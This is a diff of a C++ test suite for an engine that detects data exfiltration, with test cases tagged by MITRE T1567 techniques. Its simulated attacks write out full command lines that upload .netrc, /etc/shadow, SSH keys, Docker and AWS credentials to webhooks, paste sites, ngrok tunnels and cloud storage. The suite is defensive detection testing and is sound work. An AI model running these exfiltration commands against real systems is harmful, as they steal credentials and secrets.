@@ -52,9 +52,9 @@ constexpr std::uint64_t harness_pipe = 555;  // the stdout every command of the 
 TEST_CASE("attack 1: slack webhook with .netrc attached alerts T1567.004")
 {
     Timeline tl;
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-F",
-                                    "file=@" + home + "/.netrc",
-                                    "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "hooks.slack.com:8443:127.0.0.1", "-F",
+                            "file=@" + home + "/.netrc", "https://hooks.slack.com:8443/services/T0001/B0001/XXXXXXXX"});
     tl.open_read(curl, home + "/.netrc");
     tl.transfer(curl, "hooks.slack.com", 600 + 2400 + 350, 1800);
     tl.exit(curl);
@@ -100,8 +100,9 @@ TEST_CASE("attack 3: staged archive to cloud storage alerts T1567.002 (taint thr
     tl.summary(tar, home + "/.aws/credentials", 2100);
     tl.summary(tar, home + "/.aws/config", 1500);
     tl.summary(tar, "/tmp/stage.tgz", 0, 777, true);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "content.dropboxapi.com:8443:127.0.0.1", "-X", "POST",
-                                    "--data-binary", "@/tmp/stage.tgz", "https://content.dropboxapi.com:8443/2/files/upload"});
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "content.dropboxapi.com:8443:127.0.0.1", "-X", "POST",
+                            "--data-binary", "@/tmp/stage.tgz", "https://content.dropboxapi.com:8443/2/files/upload"});
     tl.open_read(curl, "/tmp/stage.tgz", 777);
     tl.transfer(curl, "content.dropboxapi.com", 700 + 4200, 1600);
     tl.exit(curl);
@@ -123,12 +124,13 @@ TEST_CASE("attack 3: staged archive to cloud storage alerts T1567.002 (taint thr
 TEST_CASE("attack 4: python upload of a registry credential to a code host alerts T1567.001")
 {
     Timeline tl;
-    auto py = tl.spawn(tl.shell,
-                       {"python3", "-c",
-                        "import ssl,urllib.request,os; d=open(os.path.expanduser(\"~/.docker/config.json\"),\"rb\").read(); "
-                        "urllib.request.urlopen(urllib.request.Request(\"https://gitlab.com:8443/api/v4/snippets\", "
-                        "data=d, method=\"POST\"), context=ssl._create_unverified_context())"},
-                       "/usr/bin/python3.11");
+    auto py =
+        tl.spawn(tl.shell,
+                 {"python3", "-c",
+                  "import ssl,urllib.request,os; d=open(os.path.expanduser(\"~/.docker/config.json\"),\"rb\").read(); "
+                  "urllib.request.urlopen(urllib.request.Request(\"https://gitlab.com:8443/api/v4/snippets\", "
+                  "data=d, method=\"POST\"), context=ssl._create_unverified_context())"},
+                 "/usr/bin/python3.11");
     tl.read(py, home + "/.docker/config.json", 2200);
     tl.transfer(py, "gitlab.com", 800 + 2200, 1500);
     tl.exit(py);
@@ -140,8 +142,10 @@ TEST_CASE("attack 5: shadow file through a tunnel alerts T1567 (pipeline sibling
 {
     Timeline tl;
     auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9301);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--resolve", "abc123.ngrok-free.app:8443:127.0.0.1", "--data-binary",
-                                    "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9301);
+    auto curl = tl.spawn(tl.shell,
+                         {"curl", "-sk", "--resolve", "abc123.ngrok-free.app:8443:127.0.0.1", "--data-binary", "@-",
+                          "https://abc123.ngrok-free.app:8443/"},
+                         {}, 0, 9301);
     tl.open_read(cat, "/etc/shadow");
     tl.exit(cat);
     tl.summary(cat, "/etc/shadow", 1300);
@@ -161,7 +165,8 @@ TEST_CASE("attack 5 variant: the reader's summary arrives after the upload close
 {
     Timeline tl;
     auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9302);
-    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9302);
+    auto curl =
+        tl.spawn(tl.shell, {"curl", "-sk", "--data-binary", "@-", "https://abc123.ngrok-free.app:8443/"}, {}, 0, 9302);
     tl.transfer(curl, "abc123.ngrok-free.app", 700 + 1300, 1500);
     tl.exit(curl);
     CHECK(tl.alerts.empty());  // nothing read yet as far as the engine knows
@@ -179,8 +184,9 @@ TEST_CASE("attack 6: renamed client and an encoded key alert T1567.003 with rena
     tl.open_write(cp, "/tmp/.x", 4242);
     tl.exit(cp);
     auto b64 = tl.spawn(tl.shell, {"base64", key}, {}, 0, 0, 9303);
-    auto x = tl.spawn(tl.shell, {"/tmp/.x", "-sk", "--resolve", "rentry.co:8443:127.0.0.1", "--data-binary", "@-",
-                                 "https://rentry.co:8443/api/new"},
+    auto x = tl.spawn(tl.shell,
+                      {"/tmp/.x", "-sk", "--resolve", "rentry.co:8443:127.0.0.1", "--data-binary", "@-",
+                       "https://rentry.co:8443/api/new"},
                       "/tmp/.x", 0, 9303);
     tl.open_read(b64, key);
     tl.summary(b64, key, 2600);
@@ -250,12 +256,13 @@ TEST_CASE("benign 5: a cloud SDK reads its credentials and lists a bucket: silen
             CAPTURE(creds);
             CAPTURE(in);
             Timeline tl;
-            auto py = tl.spawn(tl.shell,
-                               {"python3", "-c",
-                                "import ssl,urllib.request,os; open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
-                                "urllib.request.urlopen(\"https://s3.amazonaws.com:8443/my-bucket?list-type=2\", "
-                                "context=ssl._create_unverified_context()).read()"},
-                               "/usr/bin/python3.11");
+            auto py =
+                tl.spawn(tl.shell,
+                         {"python3", "-c",
+                          "import ssl,urllib.request,os; open(os.path.expanduser(\"~/.aws/credentials\")).read(); "
+                          "urllib.request.urlopen(\"https://s3.amazonaws.com:8443/my-bucket?list-type=2\", "
+                          "context=ssl._create_unverified_context()).read()"},
+                         "/usr/bin/python3.11");
             tl.read(py, home + "/.aws/credentials", creds);
             tl.transfer(py, "s3.amazonaws.com", 850, in);
             tl.exit(py);
@@ -282,7 +289,7 @@ TEST_CASE("variant: lookalike domains do not match the catalog")
     auto curl = tl.spawn(tl.shell, {"curl", "-T", "/root/.ssh/id_rsa", "https://evilpastebin.com/"});
     tl.read(curl, "/root/.ssh/id_rsa", 3200);
     tl.transfer(curl, "evilpastebin.com", 700 + 3400, 900);
-    REQUIRE_FALSE(tl.alerts.empty());  // still exfiltration of a key to a web service ...
+    REQUIRE_FALSE(tl.alerts.empty());           // still exfiltration of a key to a web service ...
     CHECK(tl.alerts[0].category == "unknown");  // ... but not a paste site
     CHECK(tl.alerts[0].subtechnique_id.empty());
 }
@@ -419,7 +426,8 @@ TEST_CASE("variant: an earlier pipeline's output went to its own reader, not to 
 {
     // bash -c 'cat key | grep -c x; curl -d hello ...' (bash's own stdout is the harness pipe)
     Timeline tl;
-    tl.shell = exec_into(tl, tl.shell, {"bash", "-c", "cat key | grep -c x; curl -d hello https://paste.rs/"}, harness_pipe);
+    tl.shell =
+        exec_into(tl, tl.shell, {"bash", "-c", "cat key | grep -c x; curl -d hello https://paste.rs/"}, harness_pipe);
     auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 800);
     auto grep = tl.spawn(tl.shell, {"grep", "-c", "x"}, {}, 0, 800, harness_pipe);
     tl.read(cat, key, 411);
@@ -553,9 +561,9 @@ TEST_CASE("variant: aws s3 cp of a build artifact after reading its own credenti
 TEST_CASE("variant: the same aws upload of the credentials file itself alerts")
 {
     Timeline tl;
-    auto aws = tl.spawn(tl.shell,
-                        {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
-                        "/usr/bin/python3.11");
+    auto aws =
+        tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
+                 "/usr/bin/python3.11");
     tl.read(aws, home + "/.aws/credentials", 2100);
     tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
     expect_alert(tl, "T1567.002", "cloud-storage");
@@ -594,7 +602,7 @@ TEST_CASE("alerts once per lineage and destination, again only on escalation")
     auto cat = tl.spawn(tl.shell, {"cat", "/etc/shadow"}, {}, 0, 0, 9304);
     tl.read(cat, "/etc/shadow", 1300);
     auto f = tl.connect(curl, "paste.ee");
-    tl.flow(curl, f, "paste.ee", 300, 1000, false);   // handshake only: not yet covered
+    tl.flow(curl, f, "paste.ee", 300, 1000, false);  // handshake only: not yet covered
     std::size_t first = tl.alerts.size();
     tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // data went out
     tl.flow(curl, f, "paste.ee", 2500, 1000, false);  // same again: no repeat
@@ -714,7 +722,7 @@ std::uint64_t read_work(std::size_t uploaders, std::size_t flows, std::size_t re
     auto after = tl.engine.stats();
     CHECK(after.pairs >= std::min<std::uint64_t>(flows, tl.engine.rules().settings.max_pairs) / 2);
     CHECK(after.evaluations > before.evaluations);  // the reads did cost re-scoring
-    CHECK(tl.alerts.empty());  // 64 bytes per flow: the key did not leave
+    CHECK(tl.alerts.empty());                       // 64 bytes per flow: the key did not leave
     return after.evaluations - before.evaluations;
 }
 
@@ -804,8 +812,8 @@ TEST_CASE("incidents: one alert per lineage and destination, rising scores updat
     tl.transfer(again, "gist.github.com", 2000, 300);
     CHECK(tl.alerts.size() == after_first);  // the same score: no new alert
     // The lineage reads more: the score rises, the incident is updated.
-    auto more = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials",
-                                    "-F", "c=@" + key, "https://gist.github.com:8443/"});
+    auto more = tl.spawn(tl.shell, {"curl", "-F", "a=@/etc/shadow", "-F", "b=@" + home + "/.aws/credentials", "-F",
+                                    "c=@" + key, "https://gist.github.com:8443/"});
     tl.read(more, "/etc/shadow", 1200);
     tl.read(more, home + "/.aws/credentials", 400);
     tl.read(more, key, 900);
@@ -886,9 +894,9 @@ TEST_CASE("DNS is never an upload: queries to port 53 and a resolver's answers; 
 TEST_CASE("the reason names the tool an interpreter runs: aws, not python3")
 {
     Timeline tl;
-    auto aws = tl.spawn(tl.shell,
-                        {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
-                        "/usr/bin/python3.11");
+    auto aws =
+        tl.spawn(tl.shell, {"/usr/bin/python3", "/usr/bin/aws", "s3", "cp", home + "/.aws/credentials", "s3://drop/"},
+                 "/usr/bin/python3.11");
     tl.read(aws, home + "/.aws/credentials", 2100);
     tl.transfer(aws, "drop.s3.us-east-1.amazonaws.com", 700 + 2100 + 500, 1200);
     REQUIRE_FALSE(tl.alerts.empty());
@@ -951,7 +959,7 @@ TEST_CASE("volume: the sensitive bytes count, not the size of a small staging fi
         tl.transfer(up, "paste.rs", out, 300);
         return tl.alerts;
     };
-    CHECK(run(512 + 41 + 20).empty());    // the 41-byte file left, not the key
+    CHECK(run(512 + 41 + 20).empty());     // the 41-byte file left, not the key
     CHECK_FALSE(run(512 + 2100).empty());  // enough for the key
 }
 
